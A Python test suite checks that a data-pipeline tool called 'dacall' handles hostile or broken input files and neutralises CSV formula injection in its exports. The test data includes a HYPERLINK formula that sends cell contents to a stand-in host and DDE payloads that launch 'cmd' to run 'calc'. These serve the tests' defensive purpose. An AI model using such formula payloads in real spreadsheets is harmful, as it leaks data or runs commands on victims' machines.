"""Hostile content, broken deliveries and honest exit codes (issue 14): each probe that once
got through, reproduced on real components (real files, DuckDB, dbt, the `dacall` command)."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from compare_warehouses import NOT_COMPARED
from conftest import ingest_in_child, query
from dacall.csv_out import FORMULA_STARTS, csv_bytes, frame_csv_bytes, write_query_csv
from dacall.faults import after_step
from dacall.ingest.loader import ingest
from dacall.settings import PROJECT_ROOT, UserError

DACALL = str(Path(sys.executable).with_name("dacall"))
HOSTILE_SEARCHES = {9900001: "SMITH, John 31/02/1980", 9900002: "BRONTË, Charlotte 12/03/1980"}
HYPERLINK = '=HYPERLINK("http://x/?"&B2,"click") PNC ON IP NTR'
KEY = "a-test-key-of-more-than-thirty-two-bytes-0123456789"


def dacall(*args, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [DACALL, *map(str, args)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "DACALL_PSEUDONYM_KEY": KEY, **(env or {})},
    )


def one_line_error(result: subprocess.CompletedProcess) -> str:
    """The single error line of a command that failed as a user mistake (exit 2)."""
    assert result.returncode == 2, result.stdout[-2000:] + result.stderr[-2000:]
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    errors = [line for line in result.stderr.splitlines() if line.startswith("dacall: error")]
    assert len(errors) == 1, result.stderr
    return errors[0]


def ledger(warehouse: Path) -> dict[tuple[str, str], tuple]:
    return {
        (feed, name): (status, reason, read, loaded, quarantined)
        for feed, name, status, reason, read, loaded, quarantined in query(
            warehouse,
            "select feed, file_name, status, reason, rows_read, rows_loaded, rows_quarantined "
            "from audit.files_loaded",
        )
    }


def quarantine_reasons(warehouse: Path, name: str) -> list[str]:
    return [
        r
        for (r,) in query(
            warehouse, "select reason from audit.quarantine where file_name = ?", [name]
        )
    ]


def modes_under(folder: Path) -> dict[str, int]:
    """The permission bits of a folder and of everything under it."""
    found = {".": stat.S_IMODE(folder.stat().st_mode)}
    for path in folder.rglob("*"):
        found[str(path.relative_to(folder))] = stat.S_IMODE(path.lstat().st_mode)
    return found


def cp1252_row(*values: str) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(values)
    return buffer.getvalue().encode("cp1252")


# --- one real run of `dacall run` on a hostile copy of the samples, and a second that a gate
# stops: shared by the tests of items 1, 4, 10 and 12 ---------------------------------------


@pytest.fixture(scope="module")
def hostile(samples, tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    landing = root / "landing"
    shutil.copytree(samples, landing)
    # A claim whose text is a spreadsheet formula (log text can come from the public).
    log = landing / "cc_log" / "cc_log_20250214.csv"
    log.write_bytes(
        log.read_bytes()
        + cp1252_row("HC-250214-0412", "5", "14/02/2025 22:41:00", "S20117", "RESULT", HYPERLINK)
    )
    # Person searches a build must read, not fail on: an impossible date of birth, and a name
    # that only Python's folding reads (the SQL normalisation hands it over).
    searches = landing / "audit_rms" / "audit_rms_20250214.csv"
    searches.write_bytes(
        searches.read_bytes()
        + "".join(
            f'{audit_id},S10455,SEARCH_PERSON,2025-02-14 22:59:00,"{text}",\n'
            for audit_id, text in HOSTILE_SEARCHES.items()
        ).encode("utf-8")
    )
    # A Windows-1252 feed saved as UTF-8 with a byte-order mark: one rejected file.
    incidents = (landing / "cc_incidents" / "cc_incidents_20250214.csv").read_bytes()
    (landing / "cc_incidents" / "cc_incidents_20250301.csv").write_bytes(
        b"\xef\xbb\xbf" + incidents.split(b"\r\n")[0] + b"\r\n"
    )
    # The configured (default) warehouse and reports are elsewhere: this run must not touch them.
    default_reports = root / "default-reports"
    env = {
        "DACALL_WAREHOUSE": str(root / "default" / "dacall.duckdb"),
        "DACALL_REPORTS": str(default_reports),
    }
    warehouse = root / "run" / "w.duckdb"
    first = dacall("run", "--landing", landing, "--warehouse", warehouse, env=env)
    report = (root / "run" / "reports" / "report.html").read_text()
    # Night two: an audit row delivered twice (in the next day's file) fails a raw gate.
    audit = (landing / "audit_rms" / "audit_rms_20250709.csv").read_bytes()
    header, row = audit.split(b"\n")[:2]
    (landing / "audit_rms" / "audit_rms_20250710.csv").write_bytes(header + b"\n" + row + b"\n")
    second = dacall("run", "--landing", landing, "--warehouse", warehouse, env=env)
    return {
        "root": root,
        "warehouse": warehouse,
        "default_reports": default_reports,
        "first": first,
        "first_report": report,
        "second": second,
    }


def test_1_a_person_search_with_an_impossible_date_or_accents_is_read(hostile):
    assert hostile["first"].returncode == 0, hostile["first"].stderr[-3000:]
    rows = query(
        hostile["warehouse"],
        "select audit_id, surname_key, forename_key, dob, name_readings from staging.stg_audit_rms "
        f"where audit_id in {tuple(HOSTILE_SEARCHES)} order by audit_id",
    )
    assert rows == [
        (9900001, "SMITH", "JOHN", None, ["SMITH:J"]),
        (9900002, "BRONTE", "CHARLOTTE", date(1980, 3, 12), ["BRONTE:C"]),
    ]


def _run_id(result: subprocess.CompletedProcess) -> str:
    return next(line.split()[1] for line in result.stdout.splitlines() if line.startswith("run "))


def test_1_formula_in_log_text_is_neutralised_in_the_exception_list(hostile):
    assert hostile["first"].returncode == 0, hostile["first"].stderr[-3000:]
    path = hostile["root"] / "run" / "reports" / "exceptions.csv"
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    texts = [r["entry_text"] for r in rows]
    assert "'" + HYPERLINK in texts
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    # The warehouse keeps the text as delivered: only the spreadsheet's copy is neutralised.
    assert query(hostile["warehouse"], "select text from raw.cc_log where seq = '5'") == [
        (HYPERLINK,)
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_1_every_formula_start_is_neutralised_and_numbers_are_not(start):
    value = f"{start}cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(csv_bytes(["a", "n"], [[value, -5]]).decode(), newline="")))
    assert rows[1] == ["'" + value, "-5"]
    frame = pd.DataFrame({"ref": [value, "M-2025-0031"], "incidents": [-1, 3]})
    rows = list(csv.reader(io.StringIO(frame_csv_bytes(frame).decode(), newline="")))
    assert rows[1:] == [["'" + value, "-1"], ["M-2025-0031", "3"]]


def test_1_a_query_written_by_duckdb_is_the_csv_the_helper_writes(tmp_path):
    """The exception list is written by DuckDB's CSV writer (write_query_csv): byte for byte what
    csv_bytes writes, formulas neutralised, whatever the text holds."""
    import duckdb

    texts = [f"{start}cmd|' /C calc'!A0" for start in FORMULA_STARTS] + [
        "a, comma",
        'a "quote"',
        "two\r\nlines",
        "",
        None,
        "CAD:20250101.csv#106",
        "'quoted already",
        " BRONTË ",
    ]
    con = duckdb.connect()
    con.execute("create table t (position integer, text varchar, n integer, seen timestamp)")
    con.executemany(
        "insert into t values (?, ?, ?, '2025-03-01 10:00:00')",
        [[i, text, -i] for i, text in enumerate(texts)],
    )
    path = tmp_path / "out.csv"
    query = 'select text as "=text", n, seen from t where n <= $top order by position'
    rows = write_query_csv(con, query, {"top": 0}, path)
    expected = [[t, -i, "2025-03-01 10:00:00"] for i, t in enumerate(texts)]
    assert rows == len(texts)
    assert path.read_bytes() == csv_bytes(["=text", "n", "seen"], expected)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_1_partner_extract_csv_neutralises_formulas(tmp_path):
    from pyrage import x25519

    from dacall.extracts import _write
    from dacall.governance.crypto import decrypt

    partner = x25519.Identity.generate()
    frame = pd.DataFrame({"case_ref": ["@SUM(1+1)*cmd|'/C calc'!A0"], "incidents": [2]})
    files = _write(frame, tmp_path, "marac_2025-02", str(partner.to_public()))
    sealed = (tmp_path / "marac_2025-02.csv.age").read_bytes()
    text = decrypt(sealed, str(partner)).decode("utf-8")
    assert text.splitlines()[1].startswith("'@SUM")
    assert files["marac_2025-02.csv.age"]["rows"] == 1


def test_1_every_csv_the_project_writes_goes_through_the_one_helper():
    """Any new CSV writer outside the helper must use it (the synthetic feeds excepted: they are
    the sources' own formats, byte for byte)."""
    offenders = []
    for path in (PROJECT_ROOT / "src" / "dacall").rglob("*.py"):
        relative = path.relative_to(PROJECT_ROOT / "src" / "dacall")
        if relative.parts[0] == "generate" or relative.name == "csv_out.py":
            continue
        text = path.read_text()
        if "csv.writer(" in text or ".to_csv(" in text or "DictWriter(" in text:
            offenders.append(str(relative))
    assert offenders == []


# --- 2: folders that exist keep their mode ----------------------------------------------------


def test_2_existing_folders_are_never_chmodded_and_new_ones_are_private(hostile, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # a shared folder with its sticky bit
    result = dacall("report", "--warehouse", hostile["warehouse"], "--out", shared)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(shared.stat().st_mode) == 0o1777
    assert stat.S_IMODE((shared / "exceptions.csv").stat().st_mode) == 0o600
    extracts = tmp_path / "extracts"
    extracts.mkdir()
    os.chmod(extracts, 0o755)
    done = dacall(
        "extract",
        "--partner",
        "home_office",
        "--period",
        "2025-02",
        "--warehouse",
        hostile["warehouse"],
        "--out",
        extracts,
    )
    assert done.returncode == 0, done.stderr
    modes = modes_under(extracts)
    assert modes.pop(".") == 0o755
    assert modes["home_office"] == 0o700 and modes["home_office/2025-02"] == 0o700
    assert all(m == 0o600 for name, m in modes.items() if name.count("/") == 2), modes


def test_2_private_dir_creates_parents_private_and_leaves_existing_alone(tmp_path):
    from dacall.warehouse import private_dir

    os.chmod(tmp_path, 0o751)
    previous = os.umask(0o022)
    try:
        private_dir(tmp_path / "a" / "b")
    finally:
        os.umask(previous)
    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o751
    assert stat.S_IMODE((tmp_path / "a").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "a" / "b").stat().st_mode) == 0o700


# --- 3, 5, 6, 11: what is in the landing folder ----------------------------------------------


def without_root_powers() -> list[str]:
    """A command prefix that runs a child without root's power to read any file (the
    capabilities to bypass file modes), as a server's service account would run."""
    if os.geteuid() != 0:
        return []
    if not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv: an unreadable file cannot be made")
    return ["setpriv", "--bounding-set", "-dac_override,-dac_read_search"]


def test_3_an_unreadable_file_is_one_rejected_file_and_the_run_goes_on(samples, tmp_path):
    landing = tmp_path / "landing"
    shutil.copytree(samples, landing)
    blocked = landing / "audit_cc" / "audit_cc_20250214.csv"  # the first feed read
    os.chmod(blocked, 0o000)
    warehouse = tmp_path / "w.duckdb"
    done = ingest_in_child(landing, warehouse, prefix=without_root_powers())
    assert done.returncode == 0, done.stderr[-3000:]
    files = ledger(warehouse)
    status, reason, *_ = files[("audit_cc", blocked.name)]
    assert status == "rejected" and reason == "cannot be opened: Permission denied"
    assert quarantine_reasons(warehouse, blocked.name) == [
        "file rejected: cannot be opened: Permission denied"
    ]
    # The feeds after it loaded, and the run is in audit.pipeline_runs.
    assert files[("staff_directory", "staff_directory_20250214.csv")][0] == "loaded"
    assert query(warehouse, "select step, status from audit.pipeline_runs") == [
        ("ingest", "success")
    ]


def test_3_a_step_that_fails_is_still_a_row_of_pipeline_runs(samples, tmp_path):
    from dacall.pipeline import ingest_step
    from dacall.warehouse import connect

    warehouse = tmp_path / "w.duckdb"
    connect(warehouse).close()
    with pytest.raises(UserError, match="landing folder not found"):
        ingest_step(tmp_path / "no-landing", warehouse)
    assert query(warehouse, "select step, status from audit.pipeline_runs") == [
        ("ingest", "failed")
    ]


def test_5_a_folder_or_pipe_where_a_file_should_be_is_recorded(samples, tmp_path):
    landing = tmp_path / "landing"
    shutil.copytree(samples, landing)
    (landing / "cc_log" / "cc_log_20250301.csv").mkdir()
    (landing / "partner_marac" / "partner_marac_202503.csv").mkdir()
    os.mkfifo(landing / "audit_pnd" / "audit_pnd_20250301.jsonl")
    (landing / "cc_log_20250302.csv").write_bytes(b"URN\r\n")  # beside the feed folders
    warehouse = tmp_path / "w.duckdb"
    result = ingest(landing, warehouse)
    files = ledger(warehouse)
    assert files[("cc_log", "cc_log_20250301.csv")][:2] == (
        "rejected",
        "a folder where a file should be",
    )
    assert files[("partner_marac", "partner_marac_202503.csv")][:2] == (
        "rejected",
        "a folder where a file should be",
    )
    assert files[("audit_pnd", "audit_pnd_20250301.jsonl")][:2] == (
        "rejected",
        "not a regular file (a pipe, socket or device)",
    )
    assert quarantine_reasons(warehouse, "cc_log_20250301.csv") == [
        "file rejected: a folder where a file should be"
    ]
    assert result.feeds["cc_log"].rejected == [
        "cc_log_20250301.csv: a folder where a file should be"
    ]
    assert result.stray_entries == [
        "EXPECTED.md: not in a feed's folder, not read",
        "cc_log_20250302.csv: not in a feed's folder, not read",
    ]
    # Recorded once: the next run skips what it has already recorded.
    again = ingest(landing, warehouse)
    assert again.files_rejected == 0 and len(ledger(warehouse)) == len(files)
    # A file loaded before that turns into a folder: its loaded rows are not thrown away.
    loaded = landing / "audit_rms" / "audit_rms_20250214.csv"
    rows = query(warehouse, "select count(*) from raw.audit_rms")
    loaded.unlink()
    loaded.mkdir()
    later = ingest(landing, warehouse)
    assert later.feeds["audit_rms"].rejected == [
        "audit_rms_20250214.csv: a folder where a file should be (delivery 1 stays loaded)"
    ]
    assert query(warehouse, "select count(*) from raw.audit_rms") == rows
    assert len(ledger(warehouse)) == len(files)


def test_6_a_nul_byte_anywhere_rejects_the_file(samples, tmp_path):
    landing = tmp_path / "landing"
    (landing / "cc_log").mkdir(parents=True)
    rows = [b"URN,SEQ,ENTRY_TIME,OPERATOR,ENTRY_TYPE,TEXT\r\n"]
    for seq in range(1, 200):
        rows.append(
            cp1252_row("HC-250301-0001", str(seq), "01/03/2025 10:00:00", "S1", "REMARK", "TEXT")
        )
    rows.append(b"HC-250301-0001,200,01/03/2025 10:00:00,S1,REMARK,HIDDEN\x00TEXT\r\n")
    data = b"".join(rows)
    assert data.index(b"\x00") > 4096
    (landing / "cc_log" / "cc_log_20250301.csv").write_bytes(data)
    warehouse = tmp_path / "w.duckdb"
    ingest(landing, warehouse)
    status, reason, read, loaded, quarantined = ledger(warehouse)[("cc_log", "cc_log_20250301.csv")]
    assert status == "rejected" and "NUL bytes" in reason and loaded == 0
    assert read == quarantined == 200


def test_11_symbolic_links_in_the_landing_folder_are_not_followed(samples, tmp_path):
    outside = tmp_path / "outside"
    shutil.copytree(samples / "cc_log", outside)
    landing = tmp_path / "landing"
    (landing / "cc_log").mkdir(parents=True)
    (landing / "cc_log" / "cc_log_20250214.csv").symlink_to(outside / "cc_log_20250214.csv")
    (landing / "audit_rms").symlink_to(samples / "audit_rms", target_is_directory=True)
    warehouse = tmp_path / "w.duckdb"
    result = ingest(landing, warehouse)
    assert ledger(warehouse)[("cc_log", "cc_log_20250214.csv")][:2] == (
        "rejected",
        "a symbolic link, not followed: deliver the file itself",
    )
    assert query(warehouse, "select count(*) from raw.cc_log") == [(0,)]
    assert query(warehouse, "select count(*) from raw.audit_rms") == [(0,)]
    assert result.stray_entries == ["audit_rms: a symbolic link, not followed"]


# --- 4: honest exit codes ----------------------------------------------------------------------


def test_4_a_gate_that_stops_part_of_the_build_exits_3_and_says_which_run_the_figures_are_from(
    hostile,
):
    first, second = hostile["first"], hostile["second"]
    assert first.returncode == 0, first.stderr[-3000:]
    assert second.returncode == 3, second.stdout[-3000:] + second.stderr[-3000:]
    first_id, second_id = _run_id(first), _run_id(second)
    out = second.stdout
    assert (
        "stopped: the models downstream of raw.audit_rms were not built (its quality gate "
        "failed)" in out
    )
    assert "stopped: the report and exception list were not written" in out
    assert f"figures below: marts last fully built by run {first_id}" in out
    assert f"run {second_id} at " in out and "built them only in part" in out
    assert "dacall: stopped:" in second.stderr.splitlines()[-1]
    # The report on disk is still the first run's, and says so.
    report = (hostile["root"] / "run" / "reports" / "report.html").read_text()
    assert report == hostile["first_report"] and first_id in report
    runs = query(
        hostile["warehouse"],
        "select status from audit.pipeline_runs where run_id = ? and step = 'transform:marts'",
        [second_id],
    )
    assert runs == [("partial",)]


def test_4_exit_codes_are_documented():
    readme = (PROJECT_ROOT / "README.md").read_text()
    from dacall import cli

    for code in (cli.EXIT_OK, cli.EXIT_QUARANTINED, cli.EXIT_ERROR, cli.EXIT_STOPPED):
        assert f"| `{code}` |" in readme
    assert cli.__doc__ and "3  `run`: a quality gate stopped part of the build" in cli.__doc__


# --- 7: personal data readable only by its owner -----------------------------------------------


def _audit_rms(path: Path, rows: int) -> None:
    lines = ["AUDIT_ID,USER_ID,ACTION,TIMESTAMP,SEARCH_TEXT,RECORD_ID"]
    lines += [f"{n},S1,LOGIN,2025-07-09 14:10:15,," for n in range(rows)]
    path.write_text("\n".join(lines) + "\n")


def test_7_the_write_ahead_log_left_by_a_killed_load_is_owner_only(tmp_path):
    landing = tmp_path / "landing"
    (landing / "audit_rms").mkdir(parents=True)
    _audit_rms(landing / "audit_rms" / "audit_rms_20250709.csv", 150)  # commits
    _audit_rms(landing / "audit_rms" / "audit_rms_20250710.csv", 500)  # killed half way
    warehouse = tmp_path / "wh" / "w.duckdb"
    killed = subprocess.run(
        [
            sys.executable,
            "-c",
            "import os, sys; from pathlib import Path; os.umask(0o022); "
            "from dacall.pipeline import ingest_step; "
            "ingest_step(Path(sys.argv[1]), Path(sys.argv[2]))",
            str(landing),
            str(warehouse),
        ],
        env={
            **os.environ,
            "DACALL_TEST_KILL_AFTER_BATCHES": "3",
            "DACALL_INGEST_BATCH_ROWS": "100",
        },
        capture_output=True,
        check=False,
    )
    assert killed.returncode == -signal.SIGKILL, killed.stderr[-2000:]
    wal = warehouse.with_name("w.duckdb.wal")
    assert wal.exists()
    assert modes_under(warehouse.parent) == {".": 0o700, "w.duckdb": 0o600, "w.duckdb.wal": 0o600}


def test_7_dbt_that_cannot_run_is_one_line_with_its_last_words(tmp_path):
    """dbt's console output is kept beside its log (owner only): a dbt that never ran says why
    in the error, one line."""
    from dacall.transform import dbt_target, run_dbt

    warehouse = tmp_path / "w.duckdb"
    with pytest.raises(UserError) as raised:
        run_dbt(["no-such-command"], warehouse)
    message = str(raised.value)
    assert message.startswith("dbt no-such-command did not run: ")
    assert "No such command" in message and "\n" not in message
    console = dbt_target(warehouse) / "logs" / "console.log"
    assert console.stat().st_mode & 0o777 == 0o600


def test_7_dbt_ends_at_once_when_the_run_that_started_it_is_killed(tmp_path):
    """dbt runs in a child of dacall's dbt server: when the run is killed, the server and its
    dbt child die with it, half-way through a query, and nothing is left writing."""
    from conftest import live_processes

    folder = tmp_path / "warehouse"
    folder.mkdir()
    slow = "select sum(hash(i)) as s from range(100000000000) as t(i)"  # minutes
    runner = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys; from pathlib import Path; from dacall.transform import run_dbt; "
            "run_dbt(['show', '--inline', sys.argv[1]], Path(sys.argv[2]))",
            slow,
            str(folder / "w.duckdb"),
        ],
        cwd=tmp_path,
    )

    def dbt_in(process: Path) -> bool:  # dbt works in the warehouse's folder
        return Path(os.readlink(process / "cwd")) == folder

    def left_behind(process: Path) -> bool:  # dbt, or the server (in the runner's folder)
        return Path(os.readlink(process / "cwd")) in (folder, tmp_path)

    deadline = time.monotonic() + 120
    while not live_processes(dbt_in):
        assert runner.poll() is None and time.monotonic() < deadline, "dbt never started"
        time.sleep(0.05)
    time.sleep(3)  # dbt is inside its query
    try:
        assert live_processes(dbt_in)
    finally:
        runner.kill()
        runner.wait()
    time.sleep(1)
    left = live_processes(left_behind)
    for process in left:  # not to leave minutes of work behind when this fails
        os.kill(process, signal.SIGKILL)
    assert left == []


def test_7_what_dbt_writes_beside_the_warehouse_is_owner_only(tmp_path):
    """dbt is a child process: it writes the warehouse (and its write-ahead log) and its
    artifacts under the umask it is given, not the shell's."""
    from dacall.transform import dbt_target, run_dbt

    warehouse = tmp_path / "w.duckdb"
    previous = os.umask(0o022)
    try:
        run_dbt(["run", "--select", "no_such_model"], warehouse)
    finally:
        os.umask(previous)
    target = dbt_target(warehouse)
    modes = modes_under(target)
    assert "run_results.json" in modes and "logs/dbt.log" in modes
    wrong = {
        name: oct(mode)
        for name, mode in modes.items()
        if mode != (0o700 if (target / name).is_dir() else 0o600)
    }
    assert wrong == {}


def test_7_data_docs_and_validation_results_are_owner_only(samples, tmp_path):
    from dacall.pipeline import gate_step

    warehouse = tmp_path / "w.duckdb"
    ingest(samples, warehouse)
    reports = tmp_path / "reports"
    previous = os.umask(0o022)
    try:
        gate_step(warehouse, reports=reports)
    finally:
        os.umask(previous)
    for folder in ("data_docs", "gx_validations"):
        modes = modes_under(reports / folder)
        assert len(modes) > 3, folder
        wrong = {
            name: oct(mode)
            for name, mode in modes.items()
            if mode != (0o700 if (reports / folder / name).is_dir() else 0o600)
        }
        assert wrong == {}, folder


def test_7_extract_folders_and_files_are_owner_only(hostile, tmp_path):
    from dacall.extracts import make_extract

    out = tmp_path / "new" / "extracts"
    previous = os.umask(0o022)
    try:
        make_extract("home_office", "2025-02", hostile["warehouse"], out)
    finally:
        os.umask(previous)
    modes = modes_under(out)
    assert modes["."] == 0o700 and modes["home_office"] == 0o700
    assert modes["home_office/2025-02"] == 0o700
    files = {name: mode for name, mode in modes.items() if name.count("/") == 2}
    # CSV and Parquet (encrypted), the manifest and its signature
    assert len(files) == 4 and set(files.values()) == {0o600}


# --- 8: no tracebacks for simple mistakes ------------------------------------------------------


def test_8_out_naming_a_file_or_an_unwritable_place_is_one_line(tmp_path):
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    warehouse = tmp_path / "w.duckdb"
    duckdb.connect(str(warehouse)).close()  # there, so that the folder is what is named
    line = one_line_error(dacall("report", "--warehouse", warehouse, "--out", a_file))
    assert f"{a_file} exists and is not a folder" in line
    line = one_line_error(dacall("report", "--warehouse", warehouse, "--out", "/proc/no/reports"))
    assert "cannot create the folder /proc/no" in line
    line = one_line_error(
        dacall("extract", "--partner", "marac", "--period", "2025-02", "--out", a_file)
    )
    assert "warehouse not found" in line or "not a folder" in line


def test_8_a_yaml_mistake_in_the_vocabulary_names_file_line_and_field(
    samples, tmp_path, config_copy
):
    vocabulary = config_copy / "claims_vocabulary.yml"
    text = vocabulary.read_text()
    line_no = text.splitlines().index("done_words: [DONE, CHECKED, COMPLETE, COMPLETED, SEARCHED]")
    vocabulary.write_text(
        text.replace(
            "done_words: [DONE, CHECKED, COMPLETE, COMPLETED, SEARCHED]", "done_words: DONE"
        )
    )
    env = {"DACALL_CONFIG_DIR": str(config_copy)}
    warehouse = tmp_path / "w.duckdb"
    line = one_line_error(dacall("run", "--landing", samples, "--warehouse", warehouse, env=env))
    assert line == (
        f"dacall: error: {vocabulary} line {line_no + 1}: field done_words: must be a list "
        "([a, b] or '- a' lines), not str 'DONE'"
    )
    # Broken YAML itself: the line and column, in one line.
    vocabulary.write_text(text.replace("systems:\n", "systems:\n  - [unclosed\n", 1))
    line = one_line_error(dacall("run", "--landing", samples, "--warehouse", warehouse, env=env))
    assert f"{vocabulary} line " in line and "column" in line and "not valid YAML" in line
    # Stopped before anything was loaded.
    assert query(warehouse, "select count(*) from audit.files_loaded") == [(0,)]


def test_8_fields_given_as_a_string_is_a_clear_message(config_copy):
    agreement = config_copy / "sharing" / "marac.yml"
    text = agreement.read_text()
    start = text.index("fields:\n")
    end = text.index("small_number_threshold")
    agreement.write_text(text[:start] + "fields: case_ref\n" + text[end:])
    line_no = (text[:start]).count("\n") + 1
    line = one_line_error(
        dacall(
            "extract",
            "--partner",
            "marac",
            "--period",
            "2025-02",
            env={"DACALL_CONFIG_DIR": str(config_copy)},
        )
    )
    assert line == (
        f"dacall: error: {agreement} line {line_no}: field fields: must be a list "
        "([a, b] or '- a' lines), not str 'case_ref'"
    )


# --- 9: weak inputs refused ----------------------------------------------------------------------


def test_9_a_short_pseudonym_key_is_refused(hostile, tmp_path):
    result = dacall(
        "extract",
        "--partner",
        "marac",
        "--period",
        "2025-02",
        "--warehouse",
        hostile["warehouse"],
        "--out",
        tmp_path,
        env={"DACALL_PSEUDONYM_KEY": "k" * 31},
    )
    line = one_line_error(result)
    assert "31 byte(s); at least 32 are needed" in line
    assert list(tmp_path.iterdir()) == []


def test_9_a_threshold_below_two_is_refused_for_aggregates(config_copy, monkeypatch):
    from dacall.extracts import load_agreement

    monkeypatch.setenv("DACALL_CONFIG_DIR", str(config_copy))
    agreement = config_copy / "sharing" / "home_office.yml"
    for threshold in (0, 1):
        agreement.write_text(
            agreement.read_text().replace(
                "small_number_threshold: 5", f"small_number_threshold: {threshold}"
            )
        )
        with pytest.raises(UserError, match=f"small_number_threshold {threshold} suppresses"):
            load_agreement("home_office")
        agreement.write_text(
            agreement.read_text().replace(
                f"small_number_threshold: {threshold}", "small_number_threshold: 5"
            )
        )
    assert load_agreement("home_office").threshold == 5


@pytest.mark.parametrize("period", ["0000-01", "٢٠٢٥-٠١", "2025-٠١", "2025-1", "2025-13"])
def test_9_implausible_periods_are_refused(period, tmp_path):
    line = one_line_error(
        dacall("extract", "--partner", "home_office", "--period", period, "--out", tmp_path)
    )
    assert "period" in line
    assert list(tmp_path.iterdir()) == []
    refused = dacall("report", "--from", period, "--out", tmp_path)
    assert refused.returncode == 2 and "Traceback" not in refused.stderr
    assert "period" in refused.stderr.splitlines()[-1]


def test_9_an_empty_period_and_a_missing_warehouse_are_named(tmp_path):
    refused = dacall("report", "--from", "2025-03", "--to", "2025-01", "--out", tmp_path)
    assert "--from 2025-03 is after --to 2025-01" in one_line_error(refused)
    # A warehouse that is not there is named as such, not refused for its folder (tmp_path's
    # parent may be readable by others): making the folder private would not bring it.
    missing = tmp_path / "open" / "dacall.duckdb"
    missing.parent.mkdir(mode=0o755)
    missing.parent.chmod(0o755)
    for verb in (["report", "--out", str(tmp_path / "reports")], ["summary"]):
        line = one_line_error(dacall(*verb, "--warehouse", missing))
        assert line.endswith(f"warehouse not found: {missing} (run `dacall run` first)")
    # A run, which would create it there, is still refused.
    run = dacall("run", "--landing", tmp_path, "--warehouse", missing)
    assert "can be read by others" in one_line_error(run)
    assert list(tmp_path.iterdir()) == [missing.parent] and not missing.exists()


# --- 10: messages that show the cause ------------------------------------------------------------


def test_10_a_byte_order_mark_and_an_extra_column_are_named(samples, tmp_path):
    landing = tmp_path / "landing"
    (landing / "cc_incidents").mkdir(parents=True)
    source = (samples / "cc_incidents" / "cc_incidents_20250214.csv").read_bytes()
    (landing / "cc_incidents" / "cc_incidents_20250301.csv").write_bytes(b"\xef\xbb\xbf" + source)
    lines = source.split(b"\r\n")
    extra = [lines[0] + b",NOTES"] + [line + b",x" for line in lines[1:-1]] + [b""]
    (landing / "cc_incidents" / "cc_incidents_20250302.csv").write_bytes(b"\r\n".join(extra))
    warehouse = tmp_path / "w.duckdb"
    ingest(landing, warehouse)
    files = ledger(warehouse)
    assert files[("cc_incidents", "cc_incidents_20250301.csv")][1] == (
        "file starts with a UTF-8 byte-order mark: saved as UTF-8, expected Windows-1252"
    )
    assert files[("cc_incidents", "cc_incidents_20250302.csv")][1].endswith(
        "missing none; extra NOTES)"
    )


def test_10_freshness_and_the_run_name_a_rejected_day_with_its_reason(hostile):
    out = hostile["first"].stdout
    assert "rejected   1" in out
    assert (
        "    rejected cc_incidents_20250301.csv: file starts with a UTF-8 byte-order mark: "
        "saved as UTF-8, expected Windows-1252" in out
    )
    assert (
        "cc_incidents file rejected for 1 day(s): 2025-03-01 (file starts with a UTF-8 "
        "byte-order mark: saved as UTF-8, expected Windows-1252)" in out
    )
    # The days with no file at all are told apart.
    assert "cc_incidents has no file for 143 day(s)" in out


# --- 12: a run's outputs follow its warehouse ------------------------------------------------


def test_12_a_run_writes_its_reports_beside_its_warehouse_and_the_report_names_both(hostile):
    assert not hostile["default_reports"].exists()
    run = hostile["root"] / "run"
    assert (run / "reports" / "exceptions.csv").exists()
    assert (run / "reports" / "data_docs" / "index.html").exists()
    report = hostile["first_report"]
    assert f"from warehouse {hostile['warehouse'].resolve()}, run {_run_id(hostile['first'])}" in (
        report
    )
    assert "marts built 20" in report


def test_12_reports_follow_the_warehouse_and_run_offers_reports(tmp_path):
    from dacall import paths

    warehouse = tmp_path / "elsewhere" / "w.duckdb"
    assert paths.reports_for(warehouse) == warehouse.parent.resolve() / "reports"
    assert paths.reports_for(paths.warehouse()) == paths.reports()
    parser_help = dacall("run", "--help").stdout
    assert "--reports" in parser_help


def test_4_the_cli_and_the_transform_dag_reach_the_same_outcome_when_a_gate_stops_a_mart(
    samples, tmp_path
):
    """Both run the one list of steps (dacall.steps): the same steps run and are skipped, the
    same parts are named as stopped, the same warehouse; `dacall run` exits 3, the DAG run
    fails and alerts; neither publishes a report from stale marts."""
    from dacall.pipeline import ingest_step
    from dacall.steps import steps_of
    from test_airflow import AIRFLOW, prepared_airflow, query_sqlite
    from test_airflow import airflow as run_airflow

    landing = tmp_path / "landing"
    shutil.copytree(samples, landing)
    audit = (landing / "audit_rms" / "audit_rms_20250709.csv").read_bytes()
    header, row = audit.split(b"\n")[:2]
    (landing / "audit_rms" / "audit_rms_20250710.csv").write_bytes(header + b"\n" + row + b"\n")

    by_cli = dacall("run", "--landing", landing, "--warehouse", tmp_path / "cli" / "w.duckdb")
    assert by_cli.returncode == 3, by_cli.stdout[-3000:] + by_cli.stderr[-3000:]
    stopped = [
        line.removeprefix("  stopped: ")
        for line in by_cli.stdout.splitlines()
        if line.startswith("  stopped: ")
    ]
    assert stopped[0] == (
        "the models downstream of raw.audit_rms were not built (its quality gate failed)"
    )

    home = tmp_path / "airflow_home"
    env = prepared_airflow(home, landing)
    dag_warehouse = Path(env["DACALL_WAREHOUSE"])

    def airflow(*args):
        return run_airflow(env, *args)

    # The ingest step as dacall_ingest runs it (its DAG run is tested in test_airflow.py).
